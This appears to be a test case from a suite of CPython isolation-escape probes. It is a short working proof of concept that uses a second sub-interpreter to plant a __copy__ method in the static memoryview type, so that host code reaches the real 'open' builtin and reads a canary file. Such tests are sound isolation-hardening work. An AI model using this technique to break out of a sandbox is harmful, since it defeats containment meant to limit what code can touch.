# id: subinterp-static-type-dict-write
# family: sub-interpreters
# kind: isolation
# invariant: A, B, C, D, E
# origin: CPython reports gh-94673 and gh-152405
# technique: up to 3.11 a method that another interpreter adds to a static type is called by the host's own code
# needs: 3.11 or before
# pythons: 3.11.2
# stopped-by: builtins, permits
# fix: structural
# alive-when: canary

import copy
import dataclasses

interpreters = dataclasses.inspect.importlib.import_module("_xxsubinterpreters")
program = """
import sys
def planted(instance):
    print(sys._getframe(1).f_builtins["open"]("canary.txt").read(), flush=True)
class Operand:
    def __eq__(self, behind):
        behind["__copy__"] = planted
vars(memoryview) == Operand()
"""
other = interpreters.create()
interpreters.run_string(other, program)
copy.copy(memoryview(b""))
